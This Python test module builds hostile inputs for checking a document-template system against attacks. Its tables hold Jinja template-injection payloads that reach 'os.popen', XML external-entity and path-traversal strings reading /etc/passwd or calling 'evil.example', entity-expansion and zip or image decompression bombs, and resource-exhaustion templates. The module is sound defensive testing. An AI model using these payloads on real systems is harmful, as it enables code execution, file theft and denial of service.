"""Packs that try to read other files, to run code, or to use more time and memory than they may."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from functools import cache, partial
from io import BytesIO

from msgspec import Struct
from PIL import Image

from tests.broken_packs import BODY, PAGE
from tests.drawings import HOSTILE_DRAWINGS, drawing
from tests.hostile_fonts import (
    DOWN_THE_ALPHABET,
    font_of,
    font_of_ranges,
    font_of_subroutines,
    font_of_variations,
    static_arimo,
)
from tests.word_packages import with_settings
from tests.word_templates import docx, paragraph

DOUBLED = "{% set a = [1] %}{% set b = [1] %}" + "{% set a = [a, a] %}{% set b = [b, b] %}" * 40
"""Lists that are small to hold, and to compare or to print of a size that nobody has time for."""
JINJA = {
    "classes": "{{ summary.title.__class__.__mro__[1].__subclasses__() }}",
    "classes by item": "{{ summary['__class__']['__mro__'] }}",
    "classes by filter": "{{ summary|attr('__class__') }}",
    "classes by map": "{{ summary.columns|map(attribute='__class__')|list }}",
    "globals of a function": "{{ range.__globals__ }}",
    "globals of the loop": "{% for x in summary.rows %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "self": "{{ self._TemplateReference__context }}",
    "format string": "{{ '{0.__class__}'.format(summary) }}",
    "format map": "{{ '%(a)s'|format(a=summary.__class__) }}",
    "huge range": "{% for x in range(1000000000) %}x{% endfor %}",
    "ranges in ranges": "{% for a in range(999) %}{% for b in range(999) %}{% for c in range(999) %}x{% endfor %}"
    "{% endfor %}{% endfor %}",
    "multiplied text": "{{ 'a' * 1000000000 }}",
    "multiplied list": "{{ [1] * 1000000000 }}",
    "power": "{{ 9 ** 999999999 }}",
    "doubled text": "{% set a = 'aaaaaaaaaaaaaaaa' %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}",
    "replaced text": "{{ 'a'|replace('a', 'a' * 9)|center(1000000000) }}",
    "endless loop": "{% for a in summary.rows recursive %}{{ loop(summary.rows) }}{% endfor %}",
    "another file": "{% include '/etc/passwd' %}",
    "deep nesting": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "lists compared": DOUBLED + "{% if a == b %}x{% endif %}",
    "lists looked for": DOUBLED + "{% if a in [b] %}x{% endif %}",
    "lists tested": DOUBLED + "{{ [a]|select('equalto', b)|list|length }}",
    "lists that change": DOUBLED + "{% for x in [a, b] %}{{ x if loop.changed(x) }}{% endfor %}",
    "a list as an item's number": DOUBLED + "{{ summary.columns[a] }}",
    "a list as a text": DOUBLED + "{{ 'x'|replace('x', a) }}",
    "a key that holds itself": "{% set a = (1, 2) %}" + "{% set a = (a, a) %}" * 40 + "{{ {a: 1}|length }}",
}
"""What is public about attacks on Jinja."""
XML = {
    "entities that explode": '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]><document>&j;</document>",
    "an entity from a file": '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><document>&a;</document>',
    "an entity from the network": '<!DOCTYPE d SYSTEM "https://evil.example/a.dtd"><document/>',
    "a picture from outside": '<document><img src="../../../../etc/passwd" alt="a"/></document>',
    "a picture from the network": '<document><img src="https://evil.example/a.png" alt="a"/></document>',
    "deep nesting": "<document>" + "<div>" * 5000 + "</div>" * 5000 + "</document>",
    "nesting of 200 levels": "<document>" + "<div>" * 200 + "</div>" * 200 + "</document>",
    "arguments that hold themselves": "<document>{% macro a(n) %}{% if n == 0 %}{{ 'x' if varargs == [varargs] }}"
    "{% else %}{{ a(n - 1, varargs, varargs) }}{% endif %}{% endmacro %}{{ a(40, 1) }}</document>",
    "a macro that calls itself": "<document>{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}</document>",
    "a huge span": '<document><table><tr><td colspan="999999999">a</td></tr></table></document>',
}


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def unzipped(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_document(change: Callable[[bytes], bytes]) -> bytes:
    parts = unzipped(docx(BODY))
    return zipped(parts | {"word/document.xml": change(parts["word/document.xml"])})


def with_part(name: str, content: bytes) -> bytes:
    return zipped(unzipped(docx(BODY)) | {name: content})


def relationships(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()


EXPLODING = XML["entities that explode"].removesuffix("<document>&j;</document>").encode()
WORD: dict[str, Callable[[], bytes]] = {
    "a zip bomb": lambda: with_part("word/media/a.bin", bytes(80 * 1024 * 1024)),
    "a part that expands": lambda: with_document(lambda _: b"<w:document>" + b"<w:p/>" * 2_000_000),
    "many parts": lambda: zipped(unzipped(docx(BODY)) | {f"word/{number}.xml": b"" for number in range(3_000)}),
    "entities that explode": lambda: with_document(
        lambda old: EXPLODING + old.replace(b"</w:body>", b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body>")
    ),
    "entities in an attribute": lambda: with_document(
        lambda old: EXPLODING + old.replace(b"</w:body>", b'<w:p w:rsidR="&j;"/></w:body>')
    ),
    "an entity from a file": lambda: with_document(
        lambda old: b'<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + old.replace(b"<w:sectPr/>", b"&a;")
    ),
    "an injected template": lambda: with_settings("", relationships("attachedTemplate", "https://evil.example/a.dotm")),
    "an image from the network": lambda: zipped(
        unzipped(docx(BODY, header=paragraph("a")))
        | {"word/_rels/header1.xml.rels": relationships("image", "https://evil.example/a.png")}
    ),
    "deep nesting": lambda: with_document(
        lambda old: old.replace(b"<w:sectPr/>", b"<w:sdt><w:sdtContent>" * 3000 + b"</w:sdtContent></w:sdt>" * 3000)
    ),
    "thousands of tags": lambda: docx(paragraph("{{ summary.title }}") * 20_000),
    "tags that never end": lambda: docx(paragraph("{{ '" * 100_000)),
    "a million columns": lambda: docx(
        f"<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:tcPr/>{paragraph('{% colspan 999999 %}a')}</w:tc></w:tr></w:tbl>"
    ),
}


def zeros(count: int) -> bytes:
    """So many zero bytes in the zlib format (RFC 1950), made of a compressed block that is repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(bytes(count % (1 << 20))) + packer.flush()
    checksum = count % 65521 << 16 | 1
    return b"\x78\xda" + block * (count >> 20) + last + struct.pack(">I", checksum)


def png(width: int, height: int) -> bytes:
    """A black picture of that size."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    rows = zeros(height * (width * 4 + 1))
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


@cache
def jpeg(width: int, height: int, scans: int = 0) -> bytes:
    """A black JPEG; with `scans`, a progressive one whose last scan is repeated so often."""
    buffer = BytesIO()
    Image.new("L", (width, height)).save(buffer, "JPEG", progressive=bool(scans))
    content = buffer.getvalue()
    return content[:-2] + content[content.rindex(b"\xff\xda") : -2] * scans + content[-2:]


def numbered(picture: bytes, number: int) -> bytes:
    """The JPEG with a number as its comment, so that it differs from the same picture with another one."""
    return picture[:2] + b"\xff\xfe\0\4" + number.to_bytes(2, "big") + picture[2:]


class Padded(Struct, frozen=True):
    """The content of a file that goes on with zeros up to its size, which take no room on the disk."""

    content: bytes
    size: int = 30_000_000


Files = Mapping[str, bytes | Padded]
"""The content of a pack's files by their path in it."""


def tag(text: str) -> Files:
    """A pack with this Jinja text in both templates."""
    page = PAGE.replace("<h1>", f"<p>{text}</p><h1>")
    return {"summary.docx": docx(paragraph(text)), "summary.page.xml": page.encode()}


def like_chain(count: int) -> Files:
    """A pack with so many styles, each of which is like the next."""
    styles = "".join(f"    s{number}: {{like: s{number + 1}}}\n" for number in range(count))
    return {"pack.yaml": f"extends: iuc-asia\ntheme:\n  styles:\n{styles}    s{count}: {{}}\n".encode()}


def with_styles(count: int, files: Files) -> Files:
    """A pack whose theme has so many styles, none of which is that of an unknown name in the files."""
    styles = "".join(f"    s{number:05}: {{}}\n" for number in range(count))
    return {**files, "pack.yaml": f"extends: iuc-asia\ntheme:\n  styles:\n{styles}".encode()}


def with_misspelt_styles(count: int) -> bytes:
    """A Word file with so many styles that the theme does not have, and as many that the file itself does not have."""
    paragraphs = "".join(MISSPELT.format(number) for number in range(count))
    styles = "".join(UNKNOWN.format(number) for number in range(count))
    return docx(BODY + paragraph("{{ summary.titel }}") + paragraphs, styles=styles)


def word(content: bytes) -> Files:
    """A pack with this Word template."""
    return {"summary.docx": content}


def word_file(make: Callable[[], bytes]) -> Files:
    """A pack with the Word template that is made."""
    return word(make())


def page(text: str) -> Files:
    """A pack with this page template."""
    return {"summary.page.xml": text.encode()}


def pictures(*contents: bytes, ending: str = "") -> Files:
    """A pack that shows these pictures."""
    files = {f"images/{number}{ending}": content for number, content in enumerate(contents)}
    shown = "".join(f'<img src="{name}" alt="a"/>' for name in files)
    return {**page(f"<document>{shown}</document>"), **files}


def drawings(make: Callable[[], Iterable[str]]) -> Files:
    """A pack that shows SVG drawings of these contents."""
    return pictures(*map(drawing, make()), ending=".svg")


def fonts(*contents: bytes | Padded) -> Files:
    """A pack whose styles use these fonts."""
    files = {f"fonts/{number}.ttf": content for number, content in enumerate(contents)}
    names = ["text", *(f"f{number}" for number in range(1, len(contents)))]
    families = ", ".join(
        f"{name}: {{word: A, pdf: null, files: {{regular: fonts/{number}.ttf}}}}" for number, name in enumerate(names)
    )
    styles = "".join(f", s{number}: {{font: {name}}}" for number, name in enumerate(names))
    settings = f"extends: iuc-asia\ntheme: {{fonts: {{{families}}}, styles: {{{styles.removeprefix(', ')}}}}}\n"
    return {**files, "pack.yaml": settings.encode()}


FORTY = range(40)
DAMAGED = b"\0\1\0\0" + b"\xff" * 4096
STYLE = '<w:style w:type="paragraph" w:styleId="s{0}"><w:name w:val="s{0}"/><w:basedOn w:val="s{1}"/></w:style>'
PICTURES: dict[str, Callable[[], Files]] = {
    "a picture that is a bomb": lambda: pictures(png(30_000, 30_000)),
    "a picture as large as can be": lambda: pictures(png(4_000, 4_000)),
    "forty pictures of 16 megapixels": lambda: pictures(*(png(4_000, 3_900 + number) for number in FORTY)),
    "forty JPEG pictures of 16 megapixels": lambda: pictures(
        *(numbered(jpeg(4_000, 3_900), number) for number in FORTY)
    ),
    "a JPEG of two thousand scans": lambda: pictures(jpeg(2_000, 2_000, scans=2_000)),
    "forty JPEG pictures of ninety scans": lambda: pictures(
        *(numbered(jpeg(3_900, 4_000, scans=90), number) for number in FORTY)
    ),
}
DRAWINGS: dict[str, Callable[[], Files]] = {
    name: partial(drawings, make) for name, make in HOSTILE_DRAWINGS.items()
} | {
    "a drawing shown forty times that doubles": lambda: {
        **drawings(HOSTILE_DRAWINGS["a drawing that doubles forty times"]),
        **page("<document>" + '<img src="images/0.svg" alt="a"/>' * 40 + "</document>"),
    },
}
FONTS: dict[str, Callable[[], Files]] = {
    "a font that is none": lambda: fonts(DAMAGED),
    "a glyph of itself": lambda: fonts(font_of(("a", "a"))),
    "glyphs of two glyphs each": lambda: fonts(font_of(*DOWN_THE_ALPHABET)),
    "subroutines that call two each": lambda: fonts(font_of_subroutines(40)),
    "many variations": lambda: fonts(font_of_variations(4095)),
    "forty fonts of too many characters": lambda: fonts(*(font_of_ranges(9_000 + number) for number in FORTY)),
    "forty fonts of 30 MB": lambda: fonts(*(Padded(static_arimo() + bytes([number])) for number in FORTY)),
    "forty damaged fonts of 30 MB": lambda: fonts(*(Padded(DAMAGED + bytes([number])) for number in FORTY)),
    "a thousand fonts": lambda: fonts(*(static_arimo() + number.to_bytes(2, "big") for number in range(1000))),
    "forty unused pictures of 30 MB": lambda: {f"images/{number}.png": Padded(b"") for number in FORTY},
}
UNKNOWN = '<w:style w:type="paragraph" w:styleId="t{0:05}"><w:name w:val="U-CAP q{0:05}"/></w:style>'
MISSPELT = '<w:p><w:pPr><w:pStyle w:val="r{0:05}"/></w:pPr></w:p>'
TOTALS: dict[str, Callable[[], Files]] = {
    "a page of misspelt styles": lambda: with_styles(
        2_000, page("<document>" + "".join(f'<p class="q{n:05}">a</p>' for n in range(3_000)) + "</document>")
    ),
    "a page of misspelt pictures": lambda: {
        **page("<document>" + "".join(f'<img src="images/{n:05}.png" alt="a"/>' for n in range(2_000)) + "</document>"),
        **{f"images/a{number:04}.png": b"" for number in range(90)},
    },
    "a Word file of misspelt styles": lambda: with_styles(2_000, word(with_misspelt_styles(3_000))),
    "4 MB of empty paragraphs": lambda: word(docx("<w:p/>" * 650_000)),
    "4 MB of empty paragraphs and a tag": lambda: word(docx("<w:p/>" * 650_000 + paragraph("{{ summary.titel }}"))),
    "paragraphs in UTF-16": lambda: word(
        with_document(lambda old: (old.decode() + "<w:p/>" * 30_000).encode("utf-16"))
    ),
    "thirty headers of paragraphs": lambda: word(
        zipped(unzipped(docx(BODY)) | {f"word/header{n}.xml": b"<w:hdr>" + b"<w:p/>" * 9_000 for n in range(30)})
    ),
    "a thousand styles based on each other": lambda: word(
        docx(BODY, styles="".join(STYLE.format(number, number + 1) for number in range(1_000)))
    ),
    "an element of many attributes": lambda: word(
        docx(BODY + "<w:p " + " ".join(f'w:a{number}="1"' for number in range(20_000)) + "/>")
    ),
    "a million elements of a page": lambda: page("<document>" + "<p/>" * 1_000_000 + "</document>"),
    "many elements of a loop": lambda: page(
        "<document>{% for a in range(999) %}" + "<p>a</p>" * 99 + "{% endfor %}</document>"
    ),
    "a page of many attributes": lambda: page(
        "<document><p " + " ".join(f'a{number}="1"' for number in range(20_000)) + "/></document>"
    ),
    "a page of many tags": lambda: page("<document><p>" + "{{ summary.title }}" * 20_000 + "</p></document>"),
    "all characters of Chinese": lambda: page(
        f"<document><p>{''.join(map(chr, range(0x4E00, 0x9FA5)))}</p></document>"
    ),
}
HOSTILE: Mapping[str, Callable[[], Files]] = {
    "styles that are like each other": lambda: like_chain(4_000),
    **{f"in a tag: {name}": partial(tag, text) for name, text in JINJA.items()},
    **{f"in a page: {name}": partial(page, text) for name, text in XML.items()},
    **{f"in a Word file: {name}": partial(word_file, make) for name, make in WORD.items()},
    **PICTURES,
    **DRAWINGS,
    **FONTS,
    **TOTALS,
}
"""All packs, by what they try."""
